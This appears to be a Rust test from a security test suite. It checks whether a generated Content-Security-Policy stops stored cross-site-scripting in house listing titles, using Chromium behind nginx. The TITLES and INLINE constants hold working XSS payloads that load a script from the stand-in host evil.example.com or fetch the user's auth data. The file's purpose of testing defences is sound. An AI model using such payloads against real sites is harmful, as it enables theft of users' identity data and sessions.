//! A title with a script in it, shown by a page that inserts titles as HTML, behind nginx as it is shipped, in
//! Chromium.

use std::{fs, path::Path, process::Command};

use minsu_attacks::{Bound, PASSWORD, Report, Site, Visitor, identity_number};
use serde_json::Value;

use super::{
    npm,
    proxy::{self, Nginx},
    setup,
};

const VICTIM: &str = "13900000001";

/// Titles that the API refuses. They are written into the database, as if they were older than the rule.
const TITLES: [&str; 4] = [
    "<script src=\"https://evil.example.com/steal.js\"></script>",
    "<img src=\"/none.jpg\" onerror=\"$.getScript('https://evil.example.com/steal.js')\">",
    "<iframe srcdoc=\"&lt;script src='https://evil.example.com/steal.js'&gt;&lt;/script&gt;\"></iframe>",
    "<base href=\"https://evil.example.com/\"><svg onload=\"import('https://evil.example.com/steal.js')\"></svg>",
];
/// jQuery before 3.0 compiles this, where it may.
const INLINE: &str = "<script>fetch('/api/v1.0/user/auth').then(function (a) { return a.text(); })\
                      .then(function (t) { document.title = 'stolen by jQuery: ' + t; });</script>";

fn fixtures(path: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures").join(path)
}

/// What `minsu csp` says of the pages.
fn policy(arguments: &[&str]) -> String {
    let pages = fixtures("script-pages");
    let output = Command::new(env!("CARGO_BIN_EXE_minsu")).arg("csp").args(arguments).arg(pages).output().unwrap();
    String::from_utf8(output.stdout).unwrap()
}

/// Writes a title into the database, past the API.
fn plant(site: &Site, house: &Value, title: &str) {
    let script = "import sqlite3, sys; c = sqlite3.connect(sys.argv[1], timeout=20); \
                  c.execute('update houses set title = ? where id = ?', (sys.argv[3], int(sys.argv[2]))); c.commit()";
    let id = house["house_id"].as_i64().unwrap().to_string();
    let done = Command::new("python3").args(["-c", script]).arg(site.sqlite()).args([&id, title]).status();
    assert!(done.unwrap().success());
}

/// Serves the pages with a policy line and opens them as the victim.
async fn opened(site: &Site, policy: &str) -> Value {
    let (folder, browser) = (tempfile::tempdir().unwrap(), fixtures("browser"));
    proxy::site_folder(folder.path());
    let backend = site.base.trim_start_matches("http://").to_owned();
    let limits = fs::read_to_string(proxy::shipped("minsu/limits.conf")).unwrap();
    let nginx = Nginx::start_with(folder.path(), &[backend], &limits, &[("www", policy)]).await;
    let root = folder.path().join("nginx/www");
    fs::create_dir_all(root.join("js")).unwrap();
    for file in ["index.html", "steal.js", "js/index.js"] {
        fs::copy(fixtures("script-pages").join(file), root.join(file)).unwrap();
    }
    npm::install(&browser);
    fs::copy(browser.join("node_modules/jquery/dist/jquery.min.js"), root.join("js/jquery.min.js")).unwrap();
    let (port, outbox) = (nginx.tls.to_string(), site.outbox_file());
    let variables = [
        ("SITE", "https://www.example.com"),
        ("TLS_PORT", &port),
        ("OUTBOX", outbox.to_str().unwrap()),
        ("MOBILE", VICTIM),
        ("PASSWORD", PASSWORD),
    ];
    let said = npm::run_in(&browser, "timeout", &["--kill-after=10", "60", "node", "stored-script.mjs"], &variables);
    let result = said.lines().find_map(|line| line.strip_prefix("RESULT ")).unwrap_or_else(|| panic!("{said}"));
    serde_json::from_str(result).unwrap()
}

/// The pages as they are served without a policy, with the one of `minsu csp` and with that of `--no-eval`.
pub async fn run() -> Report {
    let site = Site::start(&setup(), &[("MINSU_CACHE__PAGES", "false")]).await;
    let victim = Visitor::from(&site, "192.0.2.7".parse().unwrap());
    victim.register(VICTIM).await.ok();
    victim.verify(&identity_number(1)).await.ok();
    let mut report = Report::of("A title with a script in it, in Chromium");
    let (mut houses, mut refused) = (Vec::new(), 0);
    for title in TITLES.iter().chain([&INLINE]) {
        refused += usize::from(victim.publish(title).await.code() == "4103");
        houses.push(victim.publish("什刹海四合院").await.ok());
    }
    report.share("titles that the API refuses with 4103", refused, houses.len(), Bound::AtLeast(100.0));

    for (house, title) in houses.iter().zip(TITLES) {
        plant(&site, house, title);
    }
    let (line, strict) = (policy(&[]), policy(&["--no-eval"]));
    let bare = opened(&site, "set $minsu_page_policy \"\";").await;
    report.holds("without the policy a foreign script reads the identity", stole(&bare));
    let seen = opened(&site, &line).await;
    report.holds("with it no foreign script does, and the pages work", !stole(&seen) && works(&seen));
    let scripts = seen["refused"].as_array().unwrap().iter().filter(|it| it.as_str().unwrap().contains("steal.js"));
    report.measured(
        "foreign scripts that the browser names as refused",
        scripts.count() as f64,
        "",
        Bound::AtLeast(1.0),
    );
    report.holds("nor does one with the policy of --no-eval", !stole(&opened(&site, &strict).await));

    for house in &houses {
        plant(&site, house, INLINE);
    }
    let inline = f64::from(u8::from(stole(&opened(&site, &line).await)));
    report.measured("a script between the tags, which jQuery 1.12 compiles, reads it", inline, "yes/no", Bound::Free);
    report.holds("with the policy of --no-eval it does not", !stole(&opened(&site, &strict).await));
    report
}

fn stole(seen: &Value) -> bool {
    seen["stolen"].as_str().is_some_and(|title| title.contains("id_card"))
}

fn works(seen: &Value) -> bool {
    ["loaded", "inline", "template", "handler"].iter().all(|part| seen[part] == true)
}
